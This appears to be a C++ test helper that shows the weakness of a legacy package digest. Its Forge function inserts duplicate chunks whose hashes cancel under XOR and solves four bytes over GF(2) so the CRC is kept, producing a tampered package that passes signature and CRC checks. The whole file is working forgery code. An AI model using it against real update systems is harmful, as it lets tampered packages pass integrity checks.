// The legacy digest's weakness, shown: a pair of identical 262144-byte chunks
// inserted before a package's last chunk cancels in the XOR of the chunk
// hashes, and four bytes at the start of both, solved over GF(2), keep the
// package CRC. The result passes the legacy signature and CRC checks.
#pragma once

#include <cstdint>
#include <string>
#include <utility>

#include "package/integrity.h"

namespace pkgtest {

// The CRC is affine in the 32 solved bits: column b is crc(bit b) ^ crc(0).
inline std::string Forge(const std::string& good) {
    constexpr size_t kChunk = 262144;
    const size_t at = (good.size() - 1) / kChunk * kChunk;
    const auto forged = [&](uint32_t v) {
        std::string chunk(kChunk, 'F');
        for (int i = 0; i < 4; ++i) chunk[i] = static_cast<char>(v >> (8 * i));
        return good.substr(0, at) + chunk + chunk + good.substr(at);
    };
    const auto crc = [](const std::string& f) {
        return UPDATE_PacketCrc(reinterpret_cast<const uint8_t*>(f.data()) + 4096, f.size() - 4096,
                                0xFFFFFFFFu);
    };
    const uint32_t base = crc(forged(0)), want = crc(good);
    uint64_t rows[32] = {};  // row r: bit r of each column, the target in bit 32
    for (int b = 0; b <= 32; ++b) {
        const uint32_t col = b < 32 ? crc(forged(1u << b)) ^ base : base ^ want;
        for (int r = 0; r < 32; ++r) rows[r] |= static_cast<uint64_t>((col >> r) & 1u) << b;
    }
    for (int c = 0; c < 32; ++c) {  // Gauss-Jordan elimination
        int pivot = c;
        while (pivot < 32 && ((rows[pivot] >> c) & 1u) == 0) ++pivot;
        if (pivot == 32) return "";
        std::swap(rows[c], rows[pivot]);
        for (int r = 0; r < 32; ++r)
            if (r != c && ((rows[r] >> c) & 1u) != 0) rows[r] ^= rows[c];
    }
    uint32_t v = 0;
    for (int r = 0; r < 32; ++r) v |= static_cast<uint32_t>((rows[r] >> 32) & 1u) << r;
    return forged(v);
}

}  // namespace pkgtest
